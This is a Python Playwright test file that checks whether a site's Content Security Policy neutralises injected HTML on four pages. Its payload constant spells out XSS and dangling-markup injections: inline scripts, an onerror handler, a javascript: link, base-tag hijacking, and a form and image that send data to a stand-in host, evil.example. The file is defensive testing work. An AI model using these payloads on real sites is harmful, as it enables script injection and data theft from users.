"""Markup that somehow got into a page of ours does nothing: the policy holds, in real Chromium."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route

from tests.browser.conftest import Troubles
from tests.browser.served import Seen, Site

# As if a template forgot to escape: each would tell an attacker something, or run.
INJECTED = """
<base href="/evil/">
<script>window.ran = "inline"</script><img src="x-evil" onerror="window.ran = 'handler'">
<script src="https://evil.example/evil.js"></script><link rel="stylesheet" href="https://evil.example/evil.css">
<style>body { background: url(https://evil.example/style) }</style><iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><object data="https://evil.example/object"></object>
<a id="evil-link" href="javascript:window.ran = 'link'">x</a>
<form id="evil-form" action="https://evil.example/form"><input name="secret" value="1">
<button id="evil-send">x</button></form>
<button id="evil-button" formaction="https://evil.example/button" form="evil-form">x</button>
<img src='https://evil.example/dangling?
"""
# The last is a picture of our own that is not there: its handler is what must not run.
BLOCKED = ("policy:", "Content Security Policy", "evil", "Trusted", "404")


@pytest.mark.attack(
    "V3.2.2", "gets a base, scripts, frames, forms and an open attribute into a page that forgot to escape"
)
@pytest.mark.parametrize("path", ["/check", "/photos", "/search", "/help"])
def test_injected_markup_is_inert(
    page: Page, site: Site, troubles: Troubles, arrived: Callable[[], list[Seen]], path: str
) -> None:
    """Nothing of it runs or reaches another host, no address moves, and no form or link of it leads anywhere."""
    for words in BLOCKED:
        troubles.allow(words)

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{INJECTED}</main>"))

    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.route(f"{site.url}{path}", inject)
    page.goto(path)
    assert page.locator("#evil-send").count() == 1
    assert page.evaluate("() => document.baseURI") == f"{site.url}{path}"
    for one in ("#evil-link", "#evil-button", "#evil-send"):
        page.evaluate("(one) => document.querySelector(one).click()", one)
    assert page.evaluate("() => window.ran") is None
    assert page.url.startswith(f"{site.url}{path}")
    assert [url for url in asked if "evil.example" in url] == []
    assert [seen.path for seen in arrived() if seen.path.startswith("/evil")] == []
